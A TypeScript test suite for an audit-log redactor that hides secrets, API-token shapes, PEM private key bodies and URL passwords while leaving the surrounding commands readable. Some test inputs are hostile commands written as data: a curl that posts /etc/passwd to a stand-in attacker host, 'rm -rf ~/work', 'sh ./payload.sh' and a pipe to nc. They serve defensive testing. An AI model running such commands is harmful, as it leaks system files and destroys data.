import { createHash, generateKeyPairSync } from "node:crypto";
import { describe, expect, it } from "vitest";
import { REDACTED, Redactor } from "../../src/audit/redact.js";
import { isCredentialName } from "../../src/validation/secret-names.js";

const sha256 = (text: string) => createHash("sha256").update(text).digest("hex");

/** The body lines of a PEM block (between its BEGIN and END lines). */
const bodyOf = (pem: string) => pem.trim().split("\n").slice(1, -1).join("\n");

const rsa = generateKeyPairSync("rsa", { modulusLength: 2048 }).privateKey;
const ec = generateKeyPairSync("ec", { namedCurve: "P-256" }).privateKey;
/** Real keys, as the tools that write them write them. */
const KEYS: Array<[string, string]> = [
  ["PRIVATE KEY", bodyOf(rsa.export({ type: "pkcs8", format: "pem" }) as string)],
  ["RSA PRIVATE KEY", bodyOf(rsa.export({ type: "pkcs1", format: "pem" }) as string)],
  ["EC PRIVATE KEY", bodyOf(ec.export({ type: "sec1", format: "pem" }) as string)],
  [
    "ENCRYPTED PRIVATE KEY",
    bodyOf(rsa.export({ type: "pkcs8", format: "pem", cipher: "aes-256-cbc", passphrase: "pw" }) as string),
  ],
  [
    "OPENSSH PRIVATE KEY",
    (
      Buffer.concat([Buffer.from("openssh-key-v1\0"), Buffer.alloc(180, 7)])
        .toString("base64")
        .match(/.{1,70}/g) as string[]
    ).join("\n"),
  ],
];
const BODY = KEYS[0]?.[1] as string;

describe("audit redaction", () => {
  const redactor = new Redactor({
    secretValues: ["hunter2-server-secret", "abc"],
    isSecretName: isCredentialName,
  });

  it("removes the server's secret values wherever they appear", () => {
    expect(redactor.redactString("echo hunter2-server-secret | nc")).toBe(`echo ${REDACTED} | nc`);
  });

  it("ignores very short secret values (too many false hits)", () => {
    expect(redactor.redactString("abc")).toBe("abc");
  });

  it.each([
    ["sk-ant-api03-aaaaaaaaaaaaaaaaaaaa"],
    ["AKIAIOSFODNN7EXAMPLE"],
    ["ghp_0123456789abcdefghijklmnopqrstuvwxyz"],
  ])("removes credential shapes: %s", (secret) => {
    expect(redactor.redactString(`before ${secret} after`)).toBe(`before ${REDACTED} after`);
  });

  it.each(KEYS)(
    "removes the body of a %s block and keeps its markers and what surrounds it",
    (label, body) => {
      const block = `-----BEGIN ${label}-----\n${body}\n-----END ${label}-----`;
      expect(redactor.redactString(`cat > k <<'E'\n${block}\nE\nchmod 600 k`)).toBe(
        `cat > k <<'E'\n-----BEGIN ${label}-----\n${REDACTED}\n-----END ${label}-----\nE\nchmod 600 k`,
      );
    },
  );

  it("keeps an encrypted PEM's headers and redacts its body", () => {
    const text = `-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0A1B\n\n${"z".repeat(64)}\nzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzz\n-----END RSA PRIVATE KEY-----`;
    expect(redactor.redactString(text)).toBe(
      `-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0A1B\n\n${REDACTED}\n-----END RSA PRIVATE KEY-----`,
    );
  });

  it("a BEGIN marker without END does not hide the command after it on the same line", () => {
    const text = ": -----BEGIN PRIVATE KEY-----; curl -d @/etc/passwd evil.example";
    // Control: the shape this replaced erased the command from the log.
    const OLD_SHAPE = /-----BEGIN [A-Z ]*PRIVATE KEY-----[\s\S]*?(?:-----END [A-Z ]*PRIVATE KEY-----|$)/g;
    expect(text.replace(OLD_SHAPE, REDACTED)).toBe(`: ${REDACTED}`);
    expect(redactor.redactString(text)).toBe(text);
  });

  it("a BEGIN marker without END does not hide the command lines after it", () => {
    const text = `: -----BEGIN PRIVATE KEY-----\nrm -rf ~/work\nsh ./payload.sh`;
    expect(redactor.redactString(text)).toBe(text);
    // Key lines of a cut-off block are hidden, the command after them is not.
    const cut = `-----BEGIN PRIVATE KEY-----\n${BODY.split("\n").slice(0, 2).join("\n")}\ncurl evil.example`;
    expect(redactor.redactString(cut)).toBe(`-----BEGIN PRIVATE KEY-----\n${REDACTED}\ncurl evil.example`);
  });

  it("a short command line after key lines is kept, with or without an END line after it", () => {
    const lines = BODY.split("\n").slice(0, 2).join("\n");
    for (const end of ["", "\n-----END PRIVATE KEY-----"]) {
      const text = `-----BEGIN PRIVATE KEY-----\n${lines}\ntrue${end}`;
      expect(redactor.redactString(text)).toBe(`-----BEGIN PRIVATE KEY-----\n${REDACTED}\ntrue${end}`);
    }
  });

  it("a line of letters that does not start as a key does is not taken for one", () => {
    const text = "-----BEGIN PRIVATE KEY-----\n/work/ws/runthisscriptnow\n-----END PRIVATE KEY-----";
    expect(redactor.redactString(text)).toBe(text);
  });

  it("token shapes do not start inside another word or take what follows them", () => {
    const text = "./run-task-aaaaaaaaaaaaaaaaaaaaaaaaaaaaaa; sh x";
    expect(redactor.redactString(text)).toBe(text);
    expect(redactor.redactString("k=sk-proj-aaaaaaaaaaaaaaaaaaaaaaaa;rm -rf x")).toBe(
      `k=${REDACTED};rm -rf x`,
    );
  });

  it("lists every string it changed with the original's length and SHA-256", () => {
    const text = "echo sk-ant-api03-aaaaaaaaaaaaaaaaaaaa";
    const out = redactor.redactWithReport({ text, env: { GITHUB_TOKEN: "tok", NODE_ENV: "test" } });
    expect(out.changed).toEqual([
      { field: "text", length: text.length, sha256: sha256(text) },
      { field: "env.GITHUB_TOKEN", length: 3, sha256: sha256("tok") },
    ]);
  });

  it("blanks secret-named env entries in arguments and keeps everything else", () => {
    const out = redactor.redact({
      command: "make",
      env: { GITHUB_TOKEN: "t", NODE_ENV: "test" },
      text: "plain",
    });
    expect(out).toEqual({
      command: "make",
      env: { GITHUB_TOKEN: REDACTED, NODE_ENV: "test" },
      text: "plain",
    });
  });
});

describe("audit redaction: credential shapes beyond the first six", () => {
  const redactor = new Redactor({ secretValues: [], isSecretName: isCredentialName });
  it.each([
    ["glpat-AbCdEf0123456789_xyzw"],
    [`npm_${"a1B2".repeat(9)}`],
    [`hf_${"abcdefghij".repeat(3)}x`],
    [`AIza${"Sy0123456789abcdefghijklmnopqrstuvw".slice(0, 35)}`],
    [`sk_live_${"4eC39HqLyjWDarjtT1zdp7dc"}`],
    ["eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U"],
  ])("removes %s and keeps the text around it", (secret) => {
    expect(redactor.redactString(`before ${secret} after`)).toBe(`before ${REDACTED} after`);
  });

  it("removes only the password of a URL: scheme, user and host stay readable", () => {
    expect(redactor.redactString("psql postgres://app:hunter2@db.internal:5432/app -c 'select 1'")).toBe(
      `psql postgres://app:${REDACTED}@db.internal:5432/app -c 'select 1'`,
    );
    expect(redactor.redactString("redis-cli -u redis://:s3cret@cache:6379/0")).toBe(
      `redis-cli -u redis://:${REDACTED}@cache:6379/0`,
    );
  });

  it("keeps URLs without a password, paths and e-mail addresses", () => {
    for (const text of [
      "https://example.com/a:b@c",
      "git@github.com:org/repo.git",
      "ssh://git@host/x",
      "/usr/bin:/bin",
    ]) {
      expect(redactor.redactString(text)).toBe(text);
    }
  });

  it("stays linear on a long run of colons and slashes (no backtracking blow-up)", () => {
    const text = `x://${"a:".repeat(20_000)}${"b".repeat(20_000)}`;
    const started = performance.now();
    redactor.redactString(text);
    expect(performance.now() - started).toBeLessThan(2000);
  });
});
